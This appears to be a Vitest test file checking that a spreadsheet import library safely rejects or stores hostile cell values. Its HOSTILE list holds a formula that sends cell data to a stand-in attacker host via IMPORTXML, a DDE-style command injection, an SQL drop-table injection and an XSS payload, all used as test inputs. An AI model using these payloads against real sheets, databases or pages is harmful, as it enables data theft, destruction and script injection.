import { describe, expect, it } from 'vitest';
import { type Cell, cellText } from '../../shared/cell.ts';
import { findHeaderRow, labelHeaders } from '../../shared/headers.ts';
import { NO_LOOKUPS } from '../../shared/lookups.ts';
import { MappingConfig } from '../../shared/mappingConfig.ts';
import { mapRows } from '../../shared/mapRows.ts';
import { splitRows } from '../../shared/rowKinds.ts';

/** Cells that people, importers and attackers leave in sheets. */
const HOSTILE: readonly (readonly [string, Cell])[] = [
  ['a formula', '=IMPORTXML("https://evil.example/"&A1)'],
  ['a formula with a plus', '+1+cmd|calc'],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['a NUL', '1\u00002'],
  ['a lone surrogate', '\ud83d'],
  ['a right-to-left override', '\u202e00.1$'],
  ['Arabic digits', '١٢٣٫٤٥'],
  ['full-width digits', '１２３'],
  ['an exponent', '1e400'],
  ['hexadecimal', '0x1F'],
  ['infinity', Number.POSITIVE_INFINITY],
  ['not a number', Number.NaN],
  ['50,000 characters', '9'.repeat(50_000)],
  ['50,000 brackets', '('.repeat(50_000)],
  ['50,000 spaces around a digit', `${' '.repeat(25_000)}x${' '.repeat(25_000)}`],
  ['SQL', "'); drop table financial_metrics; --"],
  ['markup', '<img src=x onerror=alert(1)>'],
];

function configFor(column: string): MappingConfig {
  return MappingConfig.parse({
    mappings: [
      { source_column: 'Date', target_field: 'date', transform: 'date', date_format: 'M/D/YYYY' },
      {
        source_column: column,
        target_field: 'amount',
        transform: 'currency',
        with: { metric_type: 'production', category: '__proto__' },
      },
      { source_column: 'Notes', target_field: 'notes', transform: 'text' },
    ],
  });
}

function mapCells(headers: readonly string[], cells: readonly Cell[]) {
  return mapRows({ headers, rows: [{ row: 2, cells }] }, configFor(headers[1] ?? ''), NO_LOOKUPS);
}

/** What Postgres and JSON both take: no NUL, no half of a character. */
function isStorable(text: string): boolean {
  return !text.includes('\u0000') && text.isWellFormed();
}

describe.each(HOSTILE)('%s', (name, cell) => {
  it('is never an amount by accident', () => {
    const { records, issues } = mapCells(['Date', 'Amount', 'Notes'], ['1/6/2025', cell, '']);
    if (name === 'a NUL') return expect(records[0]?.fields.amount).toBe('12.00');
    expect(records).toEqual([]);
    expect(issues).toMatchObject([{ row: 2, column: 'Amount', severity: 'error' }]);
  });

  it('is never a date by accident', () => {
    const { records, issues } = mapCells(['Date', 'Amount', 'Notes'], [cell, '$5', '']);
    expect(records).toEqual([]);
    expect(issues).toMatchObject([{ row: 2, column: 'Date', code: 'not_a_date' }]);
  });

  it('is stored as a note in full, or is an issue, and the sentences can be stored and read', () => {
    const { records, issues } = mapCells(['Date', 'Amount', 'Notes'], ['1/6/2025', '$5', cell]);
    expect(records.length + issues.length).toBe(1);
    for (const { fields } of records) expect(fields.notes).toBe(cellText(cell));
    for (const text of [
      ...records.map(({ identity }) => identity),
      ...issues.map(({ message }) => message),
    ]) {
      expect(isStorable(text)).toBe(true);
    }
    for (const { message } of issues) expect(message.length).toBeLessThan(300);
  });

  it('is a header that can be mapped, if it is one', () => {
    const labels = labelHeaders(['Date', cell, 'Notes']);
    expect(labels[1]).toMatch(/^\S.{0,200}$/s);
    expect(isStorable(labels[1] ?? '')).toBe(true);
    const { records } = mapCells(labels, ['1/6/2025', '$5', '']);
    expect(records[0]?.fields).toMatchObject({ amount: '5.00', category: '__proto__' });
  });

  it('breaks neither the search for headers nor the parting of rows', () => {
    const cells = [cell, 'Production', 'Notes'];
    expect(findHeaderRow([[cell], ['Date', 'Production', 'Notes'], cells])).toBe(2);
    const rows = [{ row: 3, cells: ['1/6/2025', cell, ''] }];
    expect(splitRows(['Date', 'Production', 'Notes'], rows).rows).toEqual(rows);
  });
});

describe('a sheet of 200 columns', () => {
  it('is read by its labels, the same header 198 times included', () => {
    const labels = labelHeaders(['Date', ...Array.from({ length: 198 }, () => 'RATE'), 'Notes']);
    expect(new Set(labels).size).toBe(200);
    const config = configFor('RATE (198)');
    const cells = labels.map((_, index): Cell => (index === 0 ? '1/6/2025' : index));
    const { records } = mapRows({ headers: labels, rows: [{ row: 2, cells }] }, config, NO_LOOKUPS);
    expect(records[0]?.fields).toMatchObject({ amount: '198.00', notes: '199' });
  });
});

describe('headers of an object’s own machinery', () => {
  it('are columns like any other', () => {
    const config = MappingConfig.parse({
      mappings: [
        { source_column: '__proto__', target_field: 'date', transform: 'date' },
        {
          source_column: 'constructor',
          combine: { columns: ['toString'], between: '.' },
          target_field: 'amount',
          transform: 'currency',
          with: { metric_type: 'production', category: '__proto__' },
        },
      ],
      identity: { by: 'columns', columns: ['__proto__'] },
    });
    const headers = labelHeaders(['__proto__', 'constructor', 'toString']);
    const { records } = mapRows(
      { headers, rows: [{ row: 2, cells: ['2025-01-02', '5', 25] }] },
      config,
      NO_LOOKUPS,
    );
    expect(records[0]?.fields).toEqual({
      date: '2025-01-02',
      amount: '5.25',
      metric_type: 'production',
      category: '__proto__',
    });
  });
});

describe('values of an object’s own machinery', () => {
  it.each(['constructor', 'toString', 'hasOwnProperty'])('%s is a word like any other', (word) => {
    const values = JSON.parse(`{"${word}":"production"}`);
    const config = MappingConfig.parse({
      mappings: [
        { source_column: 'Date', target_field: 'date', transform: 'date' },
        {
          source_column: word,
          target_field: 'metric_type',
          transform: 'value_map',
          values,
          otherwise: 'refund',
        },
        { source_column: 'Amount', target_field: 'amount', transform: 'currency' },
        { target_field: 'category', transform: 'constant', value: word },
      ],
    });
    const table = { headers: ['Date', word, 'Amount'], rows: [{ row: 2, cells: ['2025-01-06', word, 5] }] };
    expect(mapRows(table, config, NO_LOOKUPS).records[0]?.fields).toEqual({
      date: '2025-01-06',
      metric_type: 'production',
      category: word,
      amount: '5.00',
    });
  });
});
